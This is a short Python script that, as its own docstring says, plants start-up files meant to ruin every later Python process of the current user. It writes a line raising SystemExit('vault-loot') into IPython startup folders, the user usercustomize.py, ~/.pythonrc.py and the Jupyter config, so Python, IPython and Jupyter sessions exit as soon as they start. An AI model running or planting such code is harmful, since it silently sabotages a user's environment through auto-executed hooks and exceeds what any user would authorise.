"""Leave start-up files that ruin every later Python process of the same user."""

import os
import site
from pathlib import Path

RUIN = "raise SystemExit('vault-loot')\n"
home = Path.home()
for path in (
    home / ".ipython" / "profile_default" / "startup" / "00-vault.py",
    Path(os.environ.get("IPYTHONDIR", home)) / "profile_default" / "startup" / "00-vault.py",
    Path(site.getusersitepackages()) / "usercustomize.py",
    home / ".pythonrc.py",
    home / ".jupyter" / "jupyter_config.py",
):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(RUIN)
        print("left", path)
    except OSError as error:
        print(error)
